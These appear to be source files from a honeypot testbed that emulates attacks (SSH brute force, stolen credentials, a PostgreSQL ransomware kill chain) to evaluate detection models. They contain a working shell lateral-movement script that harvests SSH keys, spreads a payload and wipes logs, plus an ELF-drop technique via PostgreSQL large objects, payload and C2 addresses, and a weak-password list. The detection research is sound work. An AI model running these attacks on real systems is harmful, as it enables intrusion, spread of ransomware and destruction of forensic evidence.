        """Return the ordered steps of the scenario."""
        raise NotImplementedError

    def initial_context(
        self,
        *,
        start_time: float,
        attacker_ip: str,
        entity: Optional[str] = None,
    ) -> AttackContext:
        """Build the initial context for a run."""
        return AttackContext(
            clock=float(start_time),
            attacker_ip=attacker_ip,
            entity=entity or f"host:{self.name}",
            rng=np.random.default_rng(self.seed),
        )

    # -- runner ------------------------------------------------------------------
    def run(
        self,
        *,
        start_time: float = 0.0,
        attacker_ip: str = "198.51.100.7",
        entity: Optional[str] = None,
        stop_after: Optional[str] = None,
    ) -> ScenarioResult:
        """Execute the scenario.

        ``stop_after`` truncates the run after the named step -- used to
        model attacks interrupted by preemption (the response path
        blocked the attacker before the remaining steps could execute).
        """
        context = self.initial_context(
            start_time=start_time, attacker_ip=attacker_ip, entity=entity
        )
        executed: list[str] = []
        for step in self.build_steps(context):
            context.advance(step.delay_seconds)
            step.action(context)
            executed.append(step.name)
            if stop_after is not None and step.name == stop_after:
                context.note(f"scenario interrupted after step {step.name!r}")
                break
        return ScenarioResult(name=self.name, context=context, executed_steps=executed)


__all__ = ["AttackContext", "AttackStep", "ScenarioResult", "AttackScenario"]
