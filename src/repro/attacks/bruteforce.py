"""SSH brute-force and password-spray emulation.

Brute-force scanning is the single most common attack attempt against
the centre (and the subject of NCSA's earlier CAUDIT honeypot work the
testbed succeeds).  The emulator drives the honeypot's SSH bait service
with configurable dictionaries and rates, producing the failed-login
syslog records, Zeek notices and (rarely) a successful weak-credential
login that hands off to a post-exploitation scenario.
"""

from __future__ import annotations

import dataclasses
from typing import Optional, Sequence

import numpy as np

from ..core.alerts import Alert
from ..testbed.services import SSHHoneypotService

#: A small, realistic credential dictionary (usernames x passwords).
DEFAULT_USERNAMES = ("root", "admin", "test", "oracle", "postgres", "ubuntu", "guest")
DEFAULT_PASSWORDS = ("123456", "password", "admin", "root", "qwerty", "letmein", "admin-00")


@dataclasses.dataclass
class BruteForceResult:
    """Outcome of one brute-force campaign."""

    attempts: int
    successes: list[tuple[str, str]]
    alerts: list[Alert]
    duration_seconds: float

    @property
    def succeeded(self) -> bool:
        """Whether any credential pair worked."""
        return bool(self.successes)


class BruteForceEmulator:
    """Drives dictionary attacks against an SSH honeypot service."""

    def __init__(
        self,
        *,
        usernames: Sequence[str] = DEFAULT_USERNAMES,
        passwords: Sequence[str] = DEFAULT_PASSWORDS,
        attempts_per_minute: float = 30.0,
        seed: int = 5,
    ) -> None:
        if attempts_per_minute <= 0:
            raise ValueError("attempts_per_minute must be positive")
        self.usernames = tuple(usernames)
        self.passwords = tuple(passwords)
        self.attempts_per_minute = float(attempts_per_minute)
        self.rng = np.random.default_rng(seed)

    def run(
        self,
        service: SSHHoneypotService,
        *,
        attacker_ip: str,
        start_time: float = 0.0,
        max_attempts: Optional[int] = None,
        stop_on_success: bool = True,
    ) -> BruteForceResult:
        """Run the dictionary against one SSH service."""
        pairs = [(u, p) for u in self.usernames for p in self.passwords]
        self.rng.shuffle(pairs)
        if max_attempts is not None:
            pairs = pairs[:max_attempts]
        clock = float(start_time)
        successes: list[tuple[str, str]] = []
        alerts: list[Alert] = []
        attempts = 0
        gap = 60.0 / self.attempts_per_minute
        for username, password in pairs:
            clock += float(self.rng.exponential(gap))
            attempts += 1
            ok = service.attempt_login(clock, attacker_ip, username, password)
            alerts.append(
                Alert(
                    timestamp=clock,
                    name="alert_bruteforce_ssh",
                    entity=f"host:{service.host}",
                    source_ip=attacker_ip,
                    host=service.host,
                    monitor="syslog",
                    attributes={"username": username},
                )
            )
            if ok:
                successes.append((username, password))
                alerts.append(
                    Alert(
                        timestamp=clock,
                        name="alert_login_stolen_credential",
                        entity=f"user:{username}",
                        source_ip=attacker_ip,
                        host=service.host,
                        monitor="syslog",
                        attributes={"username": username},
                    )
                )
                if stop_on_success:
                    break
        return BruteForceResult(
            attempts=attempts,
            successes=successes,
            alerts=alerts,
            duration_seconds=clock - start_time,
        )


def password_spray_alerts(
    targets: Sequence[str],
    *,
    attacker_ip: str,
    start_time: float = 0.0,
    interval_seconds: float = 1800.0,
) -> list[Alert]:
    """Low-and-slow password spray: one attempt per target per interval.

    Unlike brute force, spraying stays under per-account lockout
    thresholds; it surfaces as the ``alert_password_spray`` auxiliary
    alert rather than a failure burst.
    """
    alerts = []
    clock = start_time
    for target in targets:
        alerts.append(
            Alert(
                timestamp=clock,
                name="alert_password_spray",
                entity=f"host:{target}",
                source_ip=attacker_ip,
                host=target,
                monitor="zeek",
            )
        )
        clock += interval_seconds
    return alerts


__all__ = [
    "DEFAULT_USERNAMES",
    "DEFAULT_PASSWORDS",
    "BruteForceResult",
    "BruteForceEmulator",
    "password_spray_alerts",
]
