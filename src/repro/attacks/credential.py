"""Stolen-credential and ghost-account attack scenarios.

Credential theft is the classic HPC intrusion (the 2002-era
download/compile/erase rootkit chain and the 2008-2011 SSH-keylogger
campaigns both start with a stolen password).  Two scenarios are
provided:

* :class:`StolenCredentialScenario` -- an attacker logs in with a
  stolen password from a new network, downloads and compiles a rootkit,
  escalates, installs a keylogger, exfiltrates harvested credentials
  and wipes the logs: the canonical S8/S9-style chain.
* :class:`GhostAccountScenario` -- the attacker takes the bait of a
  decoy ("ghost") account advertised through a federated identity
  provider, which is one of the honeypot's credential-hint channels.
"""

from __future__ import annotations

from typing import Optional, Sequence

from ..testbed.honeypot import Honeypot
from .base import AttackContext, AttackScenario, AttackStep


class StolenCredentialScenario(AttackScenario):
    """Stolen-password login followed by the rootkit/keylogger chain."""

    name = "stolen_credential_rootkit"

    def __init__(
        self,
        *,
        victim_user: str = "alice",
        victim_host: str = "login00",
        payload_url: str = "64.215.33.18/abs.c",
        include_exfiltration: bool = True,
        seed: int = 17,
    ) -> None:
        super().__init__(seed=seed)
        self.victim_user = victim_user
        self.victim_host = victim_host
        self.payload_url = payload_url
        self.include_exfiltration = include_exfiltration

    def initial_context(self, *, start_time, attacker_ip, entity=None) -> AttackContext:
        return super().initial_context(
            start_time=start_time,
            attacker_ip=attacker_ip,
            entity=entity or f"user:{self.victim_user}",
        )

    def build_steps(self, context: AttackContext) -> Sequence[AttackStep]:
        host = self.victim_host

        def login(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_login_stolen_credential", host=host, user=self.victim_user)
            ctx.note(f"logged into {host} as {self.victim_user} with a stolen password")

        def new_origin(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_login_new_origin", host=host, user=self.victim_user)
            ctx.note("origin network never seen for this account")

        def download(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_download_sensitive", host=host, url=self.payload_url)
            ctx.note(f"wget http://{self.payload_url}")

        def compile_module(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_compile_kernel_module", host=host)
            ctx.note("compiled the downloaded source as a kernel module")

        def escalate(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_privilege_escalation", host=host)
            ctx.note("escalated to uid 0 via the loaded module")

        def keylogger(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_ssh_daemon_replaced", host=host)
            ctx.advance(60.0)
            ctx.emit_alert("alert_keylogger_detected", host=host)
            ctx.note("replaced sshd with a credential-harvesting build")

        def exfiltrate(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_credential_dump_upload", host=host)
            ctx.note("uploaded harvested credentials")

        def erase(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_erase_forensic_trace", host=host)
            ctx.note("truncated wtmp/secure and cleared shell history")

        steps = [
            AttackStep("login", 0.0, login, "stolen-credential login"),
            AttackStep("new_origin", 5.0, new_origin, "login from an unseen network"),
            AttackStep("download", 600.0, download, "download source over plain HTTP"),
            AttackStep("compile", 900.0, compile_module, "compile kernel module"),
            AttackStep("escalate", 1200.0, escalate, "privilege escalation"),
            AttackStep("keylogger", 1800.0, keylogger, "install SSH keylogger"),
        ]
        if self.include_exfiltration:
            steps.append(AttackStep("exfiltrate", 3600.0, exfiltrate, "upload credentials"))
        steps.append(AttackStep("erase", 300.0, erase, "erase forensic trace"))
        return steps


class GhostAccountScenario(AttackScenario):
    """An attacker uses a decoy federated-identity account advertised as bait."""

    name = "ghost_account"

    def __init__(
        self,
        honeypot: Optional[Honeypot] = None,
        *,
        ghost_user: str = "svc_archive",
        seed: int = 19,
    ) -> None:
        super().__init__(seed=seed)
        self.honeypot = honeypot
        self.ghost_user = ghost_user

    def initial_context(self, *, start_time, attacker_ip, entity=None) -> AttackContext:
        return super().initial_context(
            start_time=start_time,
            attacker_ip=attacker_ip,
            entity=entity or f"user:{self.ghost_user}",
        )

    def build_steps(self, context: AttackContext) -> Sequence[AttackStep]:
        def login(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_ghost_account_login", user=self.ghost_user)
            ctx.note(f"logged in with the decoy account {self.ghost_user}")

        def probe_database(ctx: AttackContext) -> None:
            if self.honeypot is not None:
                entry = next(iter(self.honeypot.entry_points.values()))
                self.honeypot.probe(ctx.clock, ctx.attacker_ip, entry.address, 5432)
            ctx.emit_alert("alert_service_version_probe")
            ctx.note("probed the advertised database")

        def stage_data(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_research_data_staging")
            ctx.note("staged project data in a world-readable path")

        def exfiltrate(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_pii_in_http")
            ctx.note("posted data containing PII to an external host")

        return (
            AttackStep("login", 0.0, login, "ghost-account login"),
            AttackStep("probe_database", 300.0, probe_database, "database probing"),
            AttackStep("stage_data", 1200.0, stage_data, "data staging"),
            AttackStep("exfiltrate", 2400.0, exfiltrate, "PII exfiltration"),
        )


__all__ = ["StolenCredentialScenario", "GhostAccountScenario"]
