"""SSH-key lateral movement (the Fig. 5 payload).

The ransomware's lateral-movement script enumerates private SSH keys
(``find ~/ /root /home -maxdepth 2 -name 'id_rsa*'``), harvests target
hosts from ``known_hosts`` / ssh configs / shell history, then loops
``ssh -oStrictHostKeyChecking=no -oBatchMode=yes`` over every
(user, host, key) triple to push the payload, and finally truncates
``wtmp`` / ``secure`` / ``cron`` / root's mail spool to erase its trace.

:class:`LateralMovementEngine` reproduces that behaviour against the
simulated cluster topology: starting from a compromised host it
harvests keys and known hosts, spreads along SSH trust edges breadth-
first (bounded by hops / host count), emits the per-step monitor
records and symbolic alerts, and reports the infection tree.
"""

from __future__ import annotations

import dataclasses
from typing import Optional

from ..core.alerts import Alert
from ..telemetry.osquery import OsqueryMonitor
from ..telemetry.syslog import SyslogMonitor
from ..testbed.topology import ClusterTopology

#: The (lightly sanitised) lateral-movement script from Fig. 5.
LATERAL_MOVEMENT_SCRIPT = r"""
KEYS=$(find ~/ /root /home -maxdepth 2 -name 'id_rsa*' | grep -vw pub)
HOSTS=$(cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep HostName)
HOSTS2=$(cat ~/.bash_history /home/*/.bash_history /root/.bash_history | grep -E "(ssh|scp)")
HOSTS3=$(cat ~/*/.ssh/known_hosts /home/*/.ssh/known_hosts /root/.ssh/known_hosts)
USERZ=$(echo root; find ~/ /root /home -maxdepth 2 -name '\.ssh' | uniq | xargs find | awk '/id_rsa/')
for user in $users; do
  for host in $hosts; do
    for key in $keys; do
      chmod +r $key; chmod 400 $key
      ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $key $user@$host "$PAYLOAD"
    done
  done
done
echo 0>/var/spool/mail/root
echo 0>/var/log/wtmp
echo 0>/var/log/secure
echo 0>/var/log/cron
""".strip()


@dataclasses.dataclass
class InfectionEvent:
    """One successful hop of the lateral movement."""

    timestamp: float
    source_host: str
    target_host: str
    key_used: str
    hop: int


@dataclasses.dataclass
class LateralMovementResult:
    """Outcome of one lateral-movement run."""

    origin: str
    infections: list[InfectionEvent]
    keys_harvested: list[str]
    hosts_enumerated: list[str]
    alerts: list[Alert]
    logs_wiped: bool

    @property
    def infected_hosts(self) -> list[str]:
        """All hosts infected (excluding the origin), in infection order."""
        return [event.target_host for event in self.infections]

    @property
    def blast_radius(self) -> int:
        """Number of hosts infected beyond the origin."""
        return len({event.target_host for event in self.infections})


class LateralMovementEngine:
    """Reproduces the ransomware's recursive SSH-key spreading."""

    def __init__(
        self,
        topology: ClusterTopology,
        *,
        max_hops: int = 3,
        max_hosts: int = 50,
        per_hop_delay_seconds: float = 45.0,
    ) -> None:
        self.topology = topology
        self.max_hops = int(max_hops)
        self.max_hosts = int(max_hosts)
        self.per_hop_delay_seconds = float(per_hop_delay_seconds)

    # ------------------------------------------------------------------
    def run(
        self,
        origin: str,
        *,
        entity: str,
        attacker_ip: str = "",
        start_time: float = 0.0,
        syslog: Optional[SyslogMonitor] = None,
        osquery: Optional[OsqueryMonitor] = None,
        wipe_logs: bool = True,
    ) -> LateralMovementResult:
        """Run the movement starting from ``origin``.

        ``syslog``/``osquery`` (when given) receive the raw records the
        compromised origin host would produce; symbolic alerts are
        always produced so the detector-facing path does not depend on
        the normaliser.
        """
        origin_host = self.topology.host(origin)
        origin_host.mark_compromised()
        clock = float(start_time)
        alerts: list[Alert] = []
        syslog = syslog or SyslogMonitor(origin)
        osquery = osquery or OsqueryMonitor(origin)

        # Step 1: enumerate private keys on the origin.
        keys = sorted(origin_host.ssh_keys) or [f"id_rsa_{origin}"]
        syslog.command_executed(clock, "root", "find ~/ /root /home -maxdepth 2 -name 'id_rsa*' |grep -vw pub")
        osquery.process_event(clock, "root", "/usr/bin/find", "find / -name id_rsa*")
        alerts.append(self._alert(clock, "alert_ssh_key_enumeration", entity, origin, attacker_ip))
        clock += 20.0

        # Step 2: harvest known hosts / configs / histories.
        known = sorted(origin_host.known_hosts)
        syslog.command_executed(clock, "root", "cat ~/.ssh/config /home/*/.ssh/config |grep HostName")
        alerts.append(self._alert(clock, "alert_known_hosts_enumeration", entity, origin, attacker_ip))
        clock += 20.0

        # Step 3: breadth-first spread along trust edges.
        infections: list[InfectionEvent] = []
        visited = {origin}
        frontier = [(origin, 0)]
        batch_alert_emitted = False
        while frontier and len(visited) - 1 < self.max_hosts:
            current, hop = frontier.pop(0)
            if hop >= self.max_hops:
                continue
            current_host = self.topology.host(current)
            targets = sorted(current_host.known_hosts)
            for target in targets:
                if target in visited or len(visited) - 1 >= self.max_hosts:
                    continue
                clock += self.per_hop_delay_seconds
                key = next(iter(sorted(current_host.ssh_keys)), f"id_rsa_{current}")
                syslog.command_executed(
                    clock,
                    "root",
                    f"ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i {key} root@{target} ./kp",
                )
                if not batch_alert_emitted:
                    alerts.append(self._alert(clock, "alert_lateral_ssh_batch", entity, current, attacker_ip))
                    batch_alert_emitted = True
                else:
                    alerts.append(
                        self._alert(clock, "alert_ssh_scanning_outbound", entity, current, attacker_ip)
                    )
                target_host = self.topology.host(target)
                target_host.mark_compromised()
                visited.add(target)
                infections.append(
                    InfectionEvent(
                        timestamp=clock,
                        source_host=current,
                        target_host=target,
                        key_used=key,
                        hop=hop + 1,
                    )
                )
                frontier.append((target, hop + 1))
        if infections:
            alerts.append(
                self._alert(
                    infections[-1].timestamp + 5.0,
                    "alert_internal_host_compromise",
                    entity,
                    infections[-1].target_host,
                    attacker_ip,
                )
            )

        # Step 4: wipe the forensic trace on the origin.
        logs_wiped = False
        if wipe_logs:
            clock += 30.0
            for path in ("/var/spool/mail/root", "/var/log/wtmp", "/var/log/secure", "/var/log/cron"):
                syslog.log_truncated(clock, path)
            alerts.append(self._alert(clock, "alert_erase_forensic_trace", entity, origin, attacker_ip))
            logs_wiped = True

        return LateralMovementResult(
            origin=origin,
            infections=infections,
            keys_harvested=keys,
            hosts_enumerated=known,
            alerts=alerts,
            logs_wiped=logs_wiped,
        )

    @staticmethod
    def _alert(ts: float, name: str, entity: str, host: str, source_ip: str) -> Alert:
        return Alert(
            timestamp=ts,
            name=name,
            entity=entity,
            source_ip=source_ip,
            host=host,
            monitor="osquery",
        )


__all__ = [
    "LATERAL_MOVEMENT_SCRIPT",
    "InfectionEvent",
    "LateralMovementResult",
    "LateralMovementEngine",
]
