"""The PostgreSQL ransomware family (the §V case study).

The emulated scenario reproduces, step by step, the attack the honeypot
attracted and the factor-graph model preempted:

1. **Probing** -- repeated probes of PostgreSQL port 5432 across the
   honeypot /24 during October.
2. **Initial entry** -- on October 30 the ransomware authenticates to a
   semi-open instance using the advertised default credentials.
3. **Reconnaissance** -- ``SHOW server_version_num`` to fingerprint the
   server.
4. **Payload staging** -- the ELF payload (hex ``7F454C46...``) is
   encoded into a PostgreSQL ``largeobject``.
5. **Payload drop** -- ``lo_export``/``io_export`` writes ``/tmp/kp``
   onto the database host's disk, and the file is executed.
6. **Second stage** -- the dropped loader fetches ``sys.x86_64`` and
   ``ldr.sh`` from the distribution server (the 194.145.xxx.yyy host in
   the incident report excerpt).
7. **Command and control** -- the payload beacons to its C2 server;
   inside the honeypot the egress policy drops the packet but the
   attempt is logged -- this is the step at which the preemption model
   detected the family and notified operators.
8. **Lateral movement** -- SSH keys and known hosts are harvested and
   the payload is pushed to every reachable host (``attacks.lateral``).
9. **Impact** -- ransom notes are written and logs are wiped.  In the
   testbed run this stage never executes because the response path
   fired at step 7; in the "production incident" replay twelve days
   later it does, which is the 12-day early-warning the paper reports.
"""

from __future__ import annotations

import dataclasses
from typing import Optional, Sequence

from ..core.alerts import Alert
from ..testbed.honeypot import Honeypot
from ..testbed.services import ELF_MAGIC_HEX, PostgresHoneypotService
from ..testbed.topology import ClusterTopology
from .base import AttackContext, AttackScenario, AttackStep, ScenarioResult
from .lateral import LateralMovementEngine

#: Payload-distribution and C2 infrastructure from the incident report.
PAYLOAD_SERVER = "194.145.220.11"
C2_SERVER = "194.145.220.12"
INITIAL_ATTACKER = "111.200.45.67"

#: The downloads quoted in the §V.C incident-report excerpt.
SECOND_STAGE_URLS = (
    f"hXXp://{PAYLOAD_SERVER}/sys.x86_64",
    f"hXXp://{PAYLOAD_SERVER}/ldr.sh?e7945e_postgres:postgres",
)

#: Twelve days, in seconds: the early-warning lead the paper reports.
TWELVE_DAYS_SECONDS = 12 * 86_400.0


@dataclasses.dataclass
class RansomwareConfig:
    """Tunable knobs of the scenario."""

    probe_count: int = 6
    probe_interval_seconds: float = 6 * 3600.0
    dwell_before_entry_seconds: float = 12 * 3600.0
    payload_path: str = "/tmp/kp"
    ransom_note_path: str = "/data/README_FOR_DECRYPT.txt"
    lateral_max_hosts: int = 20


class RansomwareScenario(AttackScenario):
    """The full ransomware kill chain against a honeypot entry point."""

    name = "postgres_ransomware"

    #: Step name at which the preemption model detected the family.
    DETECTION_STEP = "c2_beacon"

    def __init__(
        self,
        honeypot: Honeypot,
        *,
        entry_point: Optional[str] = None,
        topology: Optional[ClusterTopology] = None,
        config: Optional[RansomwareConfig] = None,
        seed: int = 30,
    ) -> None:
        super().__init__(seed=seed)
        self.honeypot = honeypot
        self.entry_name = entry_point or next(iter(honeypot.entry_points))
        self.topology = topology
        self.config = config or RansomwareConfig()

    # ------------------------------------------------------------------
    def _entry(self):
        return self.honeypot.entry_point(self.entry_name)

    def _service(self) -> PostgresHoneypotService:
        return self._entry().postgres

    # ------------------------------------------------------------------
    def build_steps(self, context: AttackContext) -> Sequence[AttackStep]:
        cfg = self.config
        entry = self._entry()
        service = self._service()
        hint = self.honeypot.hint_for_entry(self.entry_name)

        def probe(ctx: AttackContext) -> None:
            for index in range(cfg.probe_count):
                ctx.advance(cfg.probe_interval_seconds)
                self.honeypot.probe(ctx.clock, ctx.attacker_ip, entry.address, 5432)
                ctx.emit_alert("alert_db_port_probe", host=entry.container, port=5432)
            ctx.note(f"probed port 5432 on {entry.address} {cfg.probe_count} times")

        def initial_entry(ctx: AttackContext) -> None:
            connected = self.honeypot.connect_postgres(
                ctx.clock, ctx.attacker_ip, entry.address, hint.username, hint.password
            )
            if connected is None:
                raise RuntimeError("honeypot rejected the advertised credentials")
            ctx.artifacts["hint"] = hint
            ctx.emit_alert("alert_db_default_password_login", host=entry.container,
                           username=hint.username)
            ctx.note(f"authenticated to {hint.database_url} using published hint via {hint.channel}")

        def reconnaissance(ctx: AttackContext) -> None:
            result = service.query(ctx.clock, ctx.attacker_ip, "SHOW server_version_num")
            ctx.artifacts["server_version"] = result.rows[0] if result.rows else ""
            ctx.emit_alert("alert_service_version_probe", host=entry.container)
            ctx.note(f"SHOW server_version_num -> {ctx.artifacts['server_version']}")

        def stage_payload(ctx: AttackContext) -> None:
            payload_hex = ELF_MAGIC_HEX + "0201010000" * 24
            result = service.query(
                ctx.clock,
                ctx.attacker_ip,
                f"SELECT lo_create(0); SELECT lowrite(0, '{payload_hex}')",
            )
            ctx.artifacts["largeobject_id"] = result.rows[0] if result.rows else ""
            ctx.emit_alert("alert_db_largeobject_payload", host=entry.container,
                           magic=payload_hex[:8])
            ctx.note("encoded ELF payload (7F454C46...) into a largeobject")

        def drop_payload(ctx: AttackContext) -> None:
            service.query(
                ctx.clock,
                ctx.attacker_ip,
                f"SELECT lo_export({ctx.artifacts.get('largeobject_id', 16384)}, '{cfg.payload_path}')",
            )
            service.execute_exported_payload(ctx.clock, cfg.payload_path)
            ctx.emit_alert("alert_tmp_executable_created", host=entry.container,
                           path=cfg.payload_path)
            ctx.note(f"dropped and executed {cfg.payload_path}")

        def second_stage(ctx: AttackContext) -> None:
            for url in SECOND_STAGE_URLS:
                self.honeypot.attempt_outbound(ctx.clock, entry.container, PAYLOAD_SERVER, 80)
                ctx.emit_alert("alert_download_second_stage", host=entry.container, url=url)
            ctx.note(f"fetched second stage from {PAYLOAD_SERVER} (sys.x86_64, ldr.sh)")

        def c2_beacon(ctx: AttackContext) -> None:
            attempt = self.honeypot.attempt_outbound(ctx.clock, entry.container, C2_SERVER, 443)
            ctx.artifacts["c2_attempt"] = attempt
            ctx.emit_alert("alert_outbound_c2", host=entry.container,
                           destination_ip=C2_SERVER)
            ctx.note(f"beaconed to C2 {C2_SERVER} (egress verdict: {attempt.verdict.value})")

        def lateral_movement(ctx: AttackContext) -> None:
            if self.topology is None:
                ctx.emit_alert("alert_ssh_key_enumeration", host=entry.container)
                ctx.emit_alert("alert_known_hosts_enumeration", host=entry.container)
                ctx.emit_alert("alert_lateral_ssh_batch", host=entry.container)
                ctx.note("enumerated SSH keys and fanned out (no topology attached)")
                return
            engine = LateralMovementEngine(self.topology, max_hosts=cfg.lateral_max_hosts)
            origin = self.topology.hosts()[0].name
            result = engine.run(
                origin,
                entity=ctx.entity,
                attacker_ip=ctx.attacker_ip,
                start_time=ctx.clock,
                wipe_logs=False,
            )
            ctx.alerts.extend(result.alerts)
            ctx.artifacts["lateral"] = result
            if result.alerts:
                ctx.clock = max(ctx.clock, max(a.timestamp for a in result.alerts))
            ctx.note(f"lateral movement infected {result.blast_radius} additional host(s)")

        def impact(ctx: AttackContext) -> None:
            ctx.emit_alert("alert_ransom_note_created", host=entry.container,
                           path=cfg.ransom_note_path)
            ctx.advance(120.0)
            ctx.emit_alert("alert_mass_file_encryption", host=entry.container)
            ctx.advance(60.0)
            ctx.emit_alert("alert_erase_forensic_trace", host=entry.container)
            ctx.note("wrote ransom note, encrypted data, wiped logs")

        return (
            AttackStep("probing", 0.0, probe, "repeated probing of PostgreSQL port 5432"),
            AttackStep("initial_entry", cfg.dwell_before_entry_seconds, initial_entry,
                       "entry through open port 5432 using advertised credentials"),
            AttackStep("reconnaissance", 90.0, reconnaissance, "SHOW server_version_num"),
            AttackStep("stage_payload", 300.0, stage_payload, "ELF payload into largeobject"),
            AttackStep("drop_payload", 180.0, drop_payload, "lo_export to /tmp/kp and execute"),
            AttackStep("second_stage", 240.0, second_stage, "download sys.x86_64 / ldr.sh"),
            AttackStep("c2_beacon", 60.0, c2_beacon, "beacon to the command-and-control server"),
            AttackStep("lateral_movement", 3600.0, lateral_movement, "SSH-key lateral movement"),
            AttackStep("impact", 1800.0, impact, "ransom note, encryption, trace wiping"),
        )

    # ------------------------------------------------------------------
    def run_honeypot_capture(self, *, start_time: float = 0.0) -> ScenarioResult:
        """The testbed run: the family is captured in the honeypot.

        The scenario is executed in full (the honeypot is isolated, so
        letting it run collects the richest trace); what matters for
        preemption is at which alert the detector fires, which the
        Fig. 5 benchmark measures.
        """
        return self.run(
            start_time=start_time,
            attacker_ip=INITIAL_ATTACKER,
            entity=f"host:{self._entry().container}",
        )

    def run_production_incident(self, *, start_time: float) -> ScenarioResult:
        """The later production-side incident (the one recorded on Nov 10).

        Same family, different variant: it targets a production database
        host rather than the honeypot, so the emitted alerts use a
        production entity.  Used to measure the 12-day lead time between
        the testbed detection and the production incident.
        """
        return self.run(
            start_time=start_time,
            attacker_ip=INITIAL_ATTACKER,
            entity="host:db00",
        )


@dataclasses.dataclass
class RansomwareVariant:
    """A named variant of the family with small behavioural deltas."""

    name: str
    skip_steps: tuple[str, ...] = ()
    extra_probe_count: int = 0


#: Variants of the family observed across the campaign.
KNOWN_VARIANTS: tuple[RansomwareVariant, ...] = (
    RansomwareVariant("kp-classic"),
    RansomwareVariant("kp-quiet", skip_steps=("second_stage",)),
    RansomwareVariant("kp-noisy", extra_probe_count=10),
    RansomwareVariant("kp-smash", skip_steps=("lateral_movement",)),
)


def run_variant(
    variant: RansomwareVariant,
    honeypot: Honeypot,
    *,
    topology: Optional[ClusterTopology] = None,
    start_time: float = 0.0,
    seed: int = 31,
) -> ScenarioResult:
    """Run a named variant of the family against the honeypot."""
    config = RansomwareConfig(probe_count=6 + variant.extra_probe_count)
    scenario = RansomwareScenario(
        honeypot, topology=topology, config=config, seed=seed
    )
    context = scenario.initial_context(
        start_time=start_time,
        attacker_ip=INITIAL_ATTACKER,
        entity=f"host:{scenario._entry().container}",
    )
    executed = []
    for step in scenario.build_steps(context):
        if step.name in variant.skip_steps:
            continue
        context.advance(step.delay_seconds)
        step.action(context)
        executed.append(step.name)
    return ScenarioResult(name=f"{scenario.name}:{variant.name}", context=context, executed_steps=executed)


def alerts_to_names(alerts: Sequence[Alert]) -> list[str]:
    """Convenience: symbolic names of a scenario's alerts, in time order."""
    return [a.name for a in sorted(alerts, key=lambda a: a.timestamp)]


__all__ = [
    "PAYLOAD_SERVER",
    "C2_SERVER",
    "INITIAL_ATTACKER",
    "SECOND_STAGE_URLS",
    "TWELVE_DAYS_SECONDS",
    "RansomwareConfig",
    "RansomwareScenario",
    "RansomwareVariant",
    "KNOWN_VARIANTS",
    "run_variant",
    "alerts_to_names",
]
