"""Incident and scenario replay into the testbed pipeline.

The testbed's purpose is evaluating detection models against *replayed*
real traffic: past incidents from the corpus, emulated attack
scenarios, and benign background activity are interleaved into one
time-ordered alert stream and pushed through the pipeline (or directly
into a detector).  The replay engine supports time compression (a
24-year corpus replays in milliseconds) while preserving ordering and
relative spacing, which is what the timing-sensitive components
(dedup windows, preemption lead times) care about.
"""

from __future__ import annotations

import dataclasses
from typing import Iterable, Optional, Protocol, Sequence

from ..core.alerts import Alert, sort_alerts
from ..core.attack_tagger import Detection
from ..core.sequences import AlertSequence
from ..incidents.corpus import IncidentCorpus
from ..incidents.incident import Incident


class AlertSink(Protocol):
    """Anything that can consume a stream of alerts."""

    def observe(self, alert: Alert) -> Optional[Detection]:
        """Consume one alert, possibly emitting a detection."""
        ...  # pragma: no cover - protocol definition


@dataclasses.dataclass
class ReplayEvent:
    """One delivered alert plus any detection it triggered."""

    alert: Alert
    detection: Optional[Detection]


@dataclasses.dataclass
class ReplayResult:
    """Outcome of one replay run."""

    events: list[ReplayEvent]
    detections: list[Detection]

    @property
    def num_alerts(self) -> int:
        """Number of alerts delivered."""
        return len(self.events)

    def detections_for(self, entity: str) -> list[Detection]:
        """Detections attributed to one entity."""
        return [d for d in self.detections if d.entity == entity]

    def first_detection_time(self, entity: str) -> Optional[float]:
        """Timestamp of the first detection for an entity, if any."""
        detections = self.detections_for(entity)
        return detections[0].timestamp if detections else None


class ReplayEngine:
    """Replays alert streams into detectors or the full pipeline."""

    def __init__(self, *, time_compression: float = 1.0) -> None:
        if time_compression <= 0:
            raise ValueError("time_compression must be positive")
        self.time_compression = float(time_compression)

    # ------------------------------------------------------------------
    # Stream assembly
    # ------------------------------------------------------------------
    def compress(self, alerts: Iterable[Alert]) -> list[Alert]:
        """Rescale inter-alert gaps by the engine's compression factor."""
        ordered = sort_alerts(list(alerts))
        if not ordered or self.time_compression == 1.0:
            return ordered
        base = ordered[0].timestamp
        compressed = []
        for alert in ordered:
            new_time = base + (alert.timestamp - base) / self.time_compression
            compressed.append(
                Alert(
                    timestamp=new_time,
                    name=alert.name,
                    entity=alert.entity,
                    source_ip=alert.source_ip,
                    host=alert.host,
                    monitor=alert.monitor,
                    attributes=dict(alert.attributes),
                )
            )
        return compressed

    @staticmethod
    def interleave(*streams: Iterable[Alert]) -> list[Alert]:
        """Merge several alert streams into one time-ordered stream."""
        merged: list[Alert] = []
        for stream in streams:
            merged.extend(stream)
        return sort_alerts(merged)

    # ------------------------------------------------------------------
    # Replay targets
    # ------------------------------------------------------------------
    def replay_into_detector(self, alerts: Iterable[Alert], detector: AlertSink) -> ReplayResult:
        """Deliver alerts one by one into a detector."""
        events: list[ReplayEvent] = []
        detections: list[Detection] = []
        for alert in self.compress(alerts):
            detection = detector.observe(alert)
            events.append(ReplayEvent(alert=alert, detection=detection))
            if detection is not None:
                detections.append(detection)
        return ReplayResult(events=events, detections=detections)

    def replay_into_pipeline(self, alerts: Iterable[Alert], pipeline) -> ReplayResult:
        """Deliver alerts in timestamp order into a :class:`TestbedPipeline`."""
        compressed = self.compress(alerts)
        detections = pipeline.ingest_alerts(compressed)
        events = [ReplayEvent(alert=a, detection=None) for a in compressed]
        return ReplayResult(events=events, detections=list(detections))

    # ------------------------------------------------------------------
    # Corpus helpers
    # ------------------------------------------------------------------
    def replay_incident(self, incident: Incident, detector: AlertSink) -> ReplayResult:
        """Replay one incident's curated alert sequence."""
